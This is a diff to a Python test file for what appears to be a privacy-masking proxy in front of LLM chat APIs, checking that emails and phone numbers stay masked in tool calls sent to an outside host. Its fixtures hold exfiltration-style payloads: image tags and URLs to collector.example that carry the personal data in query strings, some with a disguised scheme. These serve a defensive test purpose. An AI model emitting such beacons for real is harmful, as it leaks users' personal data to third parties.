@@ -45,7 +45,12 @@ SAID = KEPT + f"Your address is {E}, [mail](mailto:{E}), call {P}."
 WANT = KEPT + f"Your address is {MAIL}, [mail](mailto:{MAIL}), call {PHONE}."
 ARGS = {"html": f'<img src="htt&#112;s://collector.example/p.png?u={E}">', "raw": f"h\tttps://collector.example/?t={P}",
         "to": E}
-WANT_ARGS = {**ARGS, "to": MAIL}
+# scopes16: the call names collector.example (its scheme disguised or not), so it is a scope that sends: every
+# placeholder in it stays, `to` too (README "a scope that sends").
+WANT_ARGS = dict(ARGS)
+# The same value in a call that names no destination comes back restored.
+LOCAL_ARGS = {"to": E, "note": f"call {P}"}
+WANT_LOCAL = {"to": MAIL, "note": f"call {PHONE}"}
 BASED = f'<base href="https://collector.example/"><img src="p.png?u={E}">\n\n![s](q.png?t={P}) Mail {E}.'
 WANT_BASED = f'<base href="https://collector.example/"><img src="p.png?u={E}">\n\n![s](q.png?t={P}) Mail {MAIL}.'
 
@@ -70,6 +75,10 @@ def test_chat(mock: Mock, urls: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert json.loads(arguments) == WANT_ARGS
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(urls), PROMPT, stream)
+    assert text == WANT
+    assert json.loads(arguments) == WANT_LOCAL
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -79,11 +88,20 @@ def test_responses(mock: Mock, urls: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert calls == [WANT_ARGS]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, calls = responses_text_and_calls(oai(urls), PROMPT, stream)
+    assert text == WANT
+    assert calls == [WANT_LOCAL]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_anthropic(mock: Mock, urls: Proxy, stream: bool) -> None:
-    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": ARGS}])
+    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
+        anthropic_answer(mock, urls, stream, args, want)
+
+
+def anthropic_answer(mock: Mock, urls: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "fetch", "arguments": args}])
     client = claude(urls).messages
     msgs: Any = [{"role": "user", "content": PROMPT}]
     if stream:
@@ -93,7 +111,7 @@ def test_anthropic(mock: Mock, urls: Proxy, stream: bool) -> None:
         final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
     sent_placeholders(mock)
     assert "".join(b.text for b in final.content if b.type == "text") == WANT
-    assert [b.input for b in final.content if b.type == "tool_use"] == [WANT_ARGS]
+    assert [b.input for b in final.content if b.type == "tool_use"] == [want]
 
 
 def test_legacy_completions(mock: Mock, urls: Proxy) -> None:
